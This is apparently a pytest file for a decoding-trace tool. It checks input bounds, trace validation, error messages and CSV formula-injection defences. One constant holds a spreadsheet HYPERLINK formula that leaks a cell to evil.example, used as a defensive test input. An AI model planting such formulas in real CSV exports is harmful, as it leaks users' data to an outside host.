"""Bad input and faults, third pass (issue 41): every value bounded where it enters with the bounds the trace
writer and reader use, the writer keeping what was decoded, no formula in a CSV header, impossible values in a
trace refused or said, the app's arguments bounded, and a bad flag one line at once."""

from __future__ import annotations

import csv
import json
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from specscope.core.bounds import MAX_DRAFTED, TEMPERATURE_MAX, TOP_K_MAX
from specscope.core.controls import InvalidControl, validate
from specscope.core.records import ControlValues
from specscope.core.trace.errors import TraceFormatError
from specscope.core.trace.event_log import repaired
from specscope.core.trace.files import read_trace, write_trace
from tests.cli_helpers import cli, one_sentence
from tests.models import save_model_dir, tiny_model, word_tokenizer
from tests.trace_samples import make_record, sample_records

PYTHON = sys.executable


@pytest.fixture(scope="module")
def target(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("third")
    return save_model_dir(root / "target", tiny_model(5, vocab_size=64, logit_scale=3.0), word_tokenizer())


def run_args(target: Path, *extra: str) -> list[str]:
    return ["run", "--target", str(target), "--drafter", "lookup", "--no-chat-template", "--quiet",
            "--max-new-tokens", "8", "--prompt", "w5 w6", *extra]


# --- items 1 and 8: bounded where they enter, with the trace's bounds ---------------------------------------

@pytest.mark.parametrize(("flag", "value", "words"), [
    ("--top-k", "99999999999999999999", f"argument --top-k: must be from 0 to {TOP_K_MAX:,}"),
    ("--temperature", "1e300", f"argument --temperature: must be 0 (greedy) or from 0.001 to {TEMPERATURE_MAX:g}"),
    ("--temperature", "1e-300", "argument --temperature: must be 0 (greedy) or from 0.001 to 100"),
    ("--temperature", "-1", "argument --temperature: must be 0 (greedy)"),
    ("--temperature", "nan", "argument --temperature: must be 0 (greedy)"),
    ("--top-p", "0", "argument --top-p: must be a finite number from 1e-09 to 1"),
])
def test_sampling_values_are_refused_at_the_flag(target, capsys, flag, value, words) -> None:
    rc, out, err = cli(capsys, *run_args(target, flag, value))
    assert rc == 2 and out == ""
    assert words in one_sentence(err)


def test_the_controls_and_the_trace_share_the_bounds() -> None:
    """What validate lets in, the event log holds; what it refuses, the reader refuses too."""
    for values in (ControlValues(top_k=TOP_K_MAX), ControlValues(temperature=TEMPERATURE_MAX),
                   ControlValues(temperature=1e-3, top_p=1e-9)):
        record = make_record(0)
        record.controls = validate(values)
        assert repaired(record) == (record, [])
    for bad in (ControlValues(top_k=TOP_K_MAX + 1), ControlValues(temperature=1e300),
                ControlValues(temperature=1e-300)):
        with pytest.raises(InvalidControl):
            validate(bad)
        record = make_record(0)
        record.controls = bad
        fixed, notes = repaired(record)
        assert notes and fixed is not record  # the writer clamps it, and says so


def test_the_writer_keeps_a_row_whose_one_field_is_out_of_range(tmp_path) -> None:
    records = sample_records()
    records[1].n_drafted, records[1].n_accepted = 122, 100  # an engine's counters kept across requests
    records[2].controls = ControlValues(top_k=10**12)
    records[3].memory = {"gpu_used_bytes": -5.0, "host_rss_bytes": 1e30, "fine_bytes": 3.0}
    warnings: list[str] = []
    write_trace(tmp_path / "t.csv", records, warnings=warnings)
    loaded = read_trace(tmp_path / "t.csv")
    assert [r.iteration for r in loaded.records] == [0, 1, 2, 3, 4]  # every row kept
    assert [r.tokens for r in loaded.records] == [r.tokens for r in records]  # and what was decoded
    assert loaded.records[1].n_drafted == MAX_DRAFTED and loaded.records[2].controls.top_k == TOP_K_MAX
    assert loaded.records[3].memory == {"fine_bytes": 3.0}
    assert "iteration 1: n_drafted = 122 is outside 0..80; written as 80" in warnings
    assert "iteration 2: top_k = 1000000000000 is outside 0..10000000; written as 10000000" in warnings
    assert "iteration 3: memory gpu_used_bytes = -5.0 is outside 0..4.61169e+18; left out" in warnings
    assert loaded.meta["repairs"] == warnings


# --- item 5: no formula reaches a CSV cell ------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_a_memory_key_that_is_a_formula_never_becomes_a_header_cell(tmp_path) -> None:
    record = make_record(0, memory={FORMULA: 1.0, "+cmd": 2.0, "gpu_used_bytes": 3.0})
    warnings: list[str] = []
    write_trace(tmp_path / "x.csv", [record], warnings=warnings)
    with open(tmp_path / "x.csv", newline="", encoding="utf-8") as f:
        header = next(csv.reader(f))
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header)
    assert "gpu_used_bytes" in header and not any("HYPERLINK" in cell for cell in header)
    assert len([w for w in warnings if "is not a name of letters" in w]) == 2


def test_a_crafted_legacy_trace_with_a_formula_column_is_refused(tmp_path) -> None:
    write_trace(tmp_path / "a.csv", sample_records())
    (tmp_path / "a.events.jsonl").unlink()  # read as a trace from before the event log: its CSV header
    lines = (tmp_path / "a.csv").read_text(encoding="utf-8").splitlines()
    lines[0] += "," + '"' + FORMULA.replace('"', '""') + '"'
    lines[1:] = [line + ",1" for line in lines[1:]]
    (tmp_path / "a.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(TraceFormatError, match="is not a name of letters"):
        read_trace(tmp_path / "a.csv")


def test_a_hostile_workers_memory_key_is_refused_at_the_protocol() -> None:
    from specscope.core.remote.protocol import ProtocolError, decode_event
    from specscope.core.trace.event_log import encode

    line = json.loads(encode(make_record(0, memory={"gpu_used_bytes": 1.0})))
    line["memory"] = {FORMULA: 1.0}
    with pytest.raises(ProtocolError, match="is not a name of letters"):
        decode_event({"type": "event", "event": line})


# --- item 9: impossible values in a trace ------------------------------------------------------------------

def _log_lines(tmp_path: Path) -> tuple[Path, list[dict]]:
    """A sound event log (header, run start, the sample's iterations) as JSON objects, to mutate."""
    from specscope.core.events import RunStarted
    from specscope.core.trace.event_log import encode

    write_trace(tmp_path / "m.csv", sample_records())
    path = tmp_path / "m.events.jsonl"
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").split("\n") if line]
    if not any(obj.get("type") == "run_started" for obj in lines):
        start = json.loads(encode(RunStarted(source="cli", target="t", draft="", drafter="lookup", description="",
                                             prompt="p", prompt_tokens=2, controls=ControlValues(),
                                             max_new_tokens=8, plain=False, seed=None, options={}, machine={})))
        lines = [lines[0], start, *lines[1:]]
    return path, lines


def _write(path: Path, lines: list[dict]) -> None:
    path.write_text("".join(json.dumps(obj) + "\n" for obj in lines), encoding="utf-8")


def _first_iteration(lines: list[dict]) -> dict:
    return next(obj for obj in lines if obj.get("type") == "iteration")


@pytest.mark.parametrize(("mutate", "words"), [
    (lambda it: it["tokens"][0]["top5"].__setitem__(0, [7, 1e308]), "top5 probability = 1e+308 is outside 0..1"),
    (lambda it: it["tokens"][0]["top5"].__setitem__(0, [7, -1]), "top5 probability = -1.0 is outside 0..1"),
    (lambda it: it.__setitem__("t_end_s", it["t_start_s"] - 1), "is before t_start_s"),
    (lambda it: it.__setitem__("t_start_s", -5.0), "t_start_s = -5.0 is outside 0..inf"),
    (lambda it: it.__setitem__("memory", {"gpu_used_bytes": -1}), "memory gpu_used_bytes = -1 is outside"),
    (lambda it: it.__setitem__("memory", {"gpu_used_bytes": 1e30}), "memory gpu_used_bytes = 1e+30 is outside"),
])
def test_an_impossible_value_is_refused_naming_the_line_and_field(tmp_path, mutate, words) -> None:
    path, lines = _log_lines(tmp_path)
    mutate(_first_iteration(lines))
    _write(path, lines)
    with pytest.raises(TraceFormatError) as caught:
        read_trace(path)
    message = str(caught.value)
    assert message.startswith("m.events.jsonl: line ") and words in message and "\n" not in message


def test_a_gap_in_the_iterations_is_said(tmp_path) -> None:
    path, lines = _log_lines(tmp_path)
    lines = [obj for obj in lines if not (obj.get("type") == "iteration" and obj["iteration"] == 2)]
    _write(path, lines)
    assert read_trace(path).warnings == ["m.events.jsonl: 1 iteration missing from the numbering (the first is "
                                         "iteration 2): lines were deleted, and the replay shows the run without "
                                         "them"]


def test_a_second_run_start_is_dropped_and_said(tmp_path) -> None:
    from specscope.core.events import RunStarted
    from specscope.core.trace.event_log import encode

    path, lines = _log_lines(tmp_path)
    start = json.loads(encode(RunStarted(source="cli", target="t", draft="", drafter="lookup", description="",
                                         prompt="p", prompt_tokens=2, controls=ControlValues(),
                                         max_new_tokens=8, plain=False, seed=None, options={}, machine={})))
    lines = [*lines[:4], start, *lines[4:]]  # the log's own start is line 2; a second after two iterations
    _write(path, lines)
    loaded = read_trace(path)
    assert sum(isinstance(e, RunStarted) for e in loaded.events) == 1
    assert loaded.warnings == ["m.events.jsonl: line 5: a second run_started (the first is on line 2); it is "
                               "dropped"]


def test_emptied_proposals_under_nonzero_counts_are_said(tmp_path) -> None:
    path, lines = _log_lines(tmp_path)
    _first_iteration(lines)["tokens"] = []
    _write(path, lines)
    warnings = read_trace(path).warnings
    assert len(warnings) == 1 and warnings[0].startswith("m.events.jsonl: iteration 0: tokens is empty while "
                                                         "n_drafted = ")


# --- item 3: closed standard output ------------------------------------------------------------------------

def _specscope(*argv: str, **kw) -> subprocess.CompletedProcess[str]:
    return subprocess.run([PYTHON, "-m", "specscope.launcher", *argv], capture_output=True, text=True,
                          timeout=300, **kw)


def test_closed_stdout_is_one_sentence_and_the_run_kept(target) -> None:
    # ">&-" in a shell: the process starts with descriptor 1 closed (Python's sys.stdout is then None)
    done = subprocess.run(["sh", "-c", 'exec "$0" "$@" >&-', PYTHON, "-m", "specscope.launcher",
                           *run_args(target)], stderr=subprocess.PIPE, text=True, timeout=300)
    err = done.stderr
    assert done.returncode == 1, err
    line = one_sentence(err)
    assert line.startswith("specscope: error: cannot write to standard output: it was closed when specscope "
                           "started; the run is saved in ")


# --- item 11: a bad flag is one line, naming the flag and --help -------------------------------------------

@pytest.mark.parametrize("argv", [["run", "--bogus"], ["run", "--k", "many"], ["bench", "--rounds"],
                                  ["attach"], ["verify", "--top-k", "-3"]])
def test_a_bad_flag_is_one_line_without_the_usage_block(capsys, argv) -> None:
    rc, out, err = cli(capsys, *argv)
    assert rc == 2 and out == ""
    assert err.count("\n") == 1 and "usage:" not in err
    line = one_sentence(err)
    assert f"(the options: specscope {argv[0]} --help)" in line


# --- item 10: serve checks its port and host before loading; SIGTERM while loading -------------------------

def test_serve_on_a_busy_port_is_said_before_loading(target, capsys) -> None:
    import socket

    from specscope.core.engine import models

    with socket.create_server(("127.0.0.1", 0)) as busy:
        port = busy.getsockname()[1]
        loads = []
        original = models.load_pair
        models.load_pair = lambda *a, **k: loads.append(1) or original(*a, **k)  # counts, loads as before
        try:
            rc, _, err = cli(capsys, "serve", "--target", str(target), "--drafter", "lookup", "--port", str(port))
        finally:
            models.load_pair = original
    assert rc == 2 and loads == []
    assert one_sentence(err) == f"specscope: error: cannot listen on 127.0.0.1:{port}: Address already in use"


def test_serve_on_an_address_not_of_this_machine_is_said_before_loading(target, capsys) -> None:
    rc, _, err = cli(capsys, "serve", "--target", str(target), "--drafter", "lookup", "--host", "192.0.2.1",
                     "--port", "0")
    assert rc == 2  # the bind is refused before the load: a model that would load is never reached
    assert one_sentence(err) == "specscope: error: cannot listen on 192.0.2.1:0: Cannot assign requested address"


def test_sigterm_while_the_model_loads_is_one_sentence(target) -> None:
    """A fresh process: SIGTERM once the load has begun (its progress line), not silence."""
    proc = subprocess.Popen([PYTHON, "-m", "specscope.launcher", "run", "--target", str(target), "--drafter",
                             "lookup", "--prompt", "w5", "--max-new-tokens", "4"], stderr=subprocess.PIPE,
                            stdout=subprocess.PIPE, text=True)
    assert proc.stderr is not None
    first = proc.stderr.readline()  # the first progress line: parsing is over, loading under way
    proc.send_signal(signal.SIGTERM)
    rest = proc.stderr.read()
    rc = proc.wait(timeout=120)
    err = first + rest
    if rc == 0:  # the tiny model loaded and decoded before the signal landed: nothing to see here
        pytest.skip("the run finished before SIGTERM arrived")
    assert rc == 128 + signal.SIGTERM, err
    assert "Traceback" not in err
    assert "specscope: error: SIGTERM received" in err


# --- items 4 and 7: the app's arguments --------------------------------------------------------------------

@pytest.mark.parametrize(("argv", "words"), [
    (["--max-new-tokens", str(2**31)], "argument --max-new-tokens: must be from 1 to 131,072"),
    (["--max-new-tokens", "0"], "argument --max-new-tokens: must be from 1 to 131,072"),
    (["--screenshot-after", "-1", "--screenshot", "x.png"], "argument --screenshot-after: must be from 0"),
    (["--screenshot", "/dev/null"], "--screenshot /dev/null is a character device, not a regular file"),
    (["--screenshot", "{tmp}"], "--screenshot {tmp} is a folder, not a regular file"),
    (["--open-trace", "{tmp}/bad.csv", "--screenshot", "{tmp}/x.png"], "cannot open trace {tmp}/bad.csv: "),
])
def test_the_apps_bad_arguments_end_at_once_with_one_sentence(tmp_path, argv, words) -> None:
    (tmp_path / "bad.csv").write_text("not,a,trace\n1,2,3\n", encoding="utf-8")
    argv = [a.replace("{tmp}", str(tmp_path)) for a in argv]
    start = time.monotonic()
    done = _specscope(*argv, cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    assert words.replace("{tmp}", str(tmp_path)) in one_sentence(done.stderr)
    assert time.monotonic() - start < 120  # it ended (it used to wait on an invisible box forever)
    assert not (tmp_path / "x.png").exists()


def test_app_help_exists_as_help_says() -> None:
    done = _specscope("--help")
    assert "--app-help" in done.stdout
    done = _specscope("--app-help")
    assert done.returncode == 0 and "--open-trace" in done.stdout and "--screenshot" in done.stdout
